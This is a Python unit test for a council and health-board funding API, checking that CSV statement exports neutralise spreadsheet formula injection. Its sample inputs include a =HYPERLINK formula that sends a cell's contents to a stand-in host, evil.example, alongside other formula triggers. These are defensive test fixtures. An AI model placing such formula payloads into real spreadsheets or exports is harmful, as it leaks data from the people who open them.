"""A recharge statement's CSV never carries a formula a spreadsheet would run
(OWASP "CSV injection"): the service type and ids are text a body sent, and a
finance team opens the statement in Excel. Found by an outside review: a
council's `service_type` of `=HYPERLINK(...)` came back as a live formula."""

from __future__ import annotations

import csv
import io

from hub.clients import add_client
from tests.unit.test_money_moves_api import BUCKS, QU9, _grant_funding
from tests.unit.test_packages_api import _person, start

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
# A tab or a line break first is a control character the contract refuses (named, never kept); the CSV
# writer would put those behind an apostrophe too.
REFUSED = ["\t=1+1", "\r=1"]


async def test_statement_csv_cells_never_start_a_formula(app_hub):
    _, key = await add_client(app_hub.hub.engine, "Bucks finance", BUCKS, "council",
                              ["packages:write", "register:write", "s117:read"])
    _grant_funding(app_hub, BUCKS, QU9)
    pid, _ = await _person(app_hub)
    h = {"X-API-Key": key}
    for n, text in enumerate(FORMULAS):
        r = await app_hub.http.post("/v1/packages", headers=h, json=start(
            pid, f"csv-{n}", f"CSV{n}", service_type=text, effective_date="2026-01-01"))
        assert r.status_code == 201, r.text
    for n, text in enumerate(REFUSED):
        r = await app_hub.http.post("/v1/packages", headers=h, json=start(
            pid, f"csv-r{n}", f"CSVR{n}", service_type=text, effective_date="2026-01-01"))
        assert r.status_code == 422 and [e["field"] for e in r.json()["errors"]] == ["service_type"], r.text
    # A unit cost times units a week is a fraction of a penny: shown half up, as every amount is.
    r = await app_hub.http.post("/v1/packages", headers=h, json=start(
        pid, "csv-unit", "UNIT", effective_date="2026-01-01", weekly_cost_pence=None, unit_cost_pence=1,
        units_per_week="2.50"))
    assert r.status_code == 201, r.text
    r = await app_hub.http.get(f"/v1/statements?month=2026-02&council={BUCKS}&icb={QU9}&format=csv", headers=h)
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text)))
    lines = [row for row in rows if row["person_id"] != "TOTAL"]
    assert lines, r.text
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "\n")), (column, cell)
            if column not in ("cost", "eligible", "council_share", "icb_share", "excluded", "awaiting_panel",
                              "icb_owes_council", "council_owes_icb", "weekly_cost"):
                assert not cell.startswith("-"), (column, cell)
    kept = {row["service_type"] for row in lines}
    # The text is kept, readable, behind an apostrophe (nothing a body sent is lost).
    assert kept == {"'" + f for f in FORMULAS} | {"supported accommodation"}
    assert next(row for row in lines if row["package_id"] == "UNIT")["weekly_cost"] == "0.03"
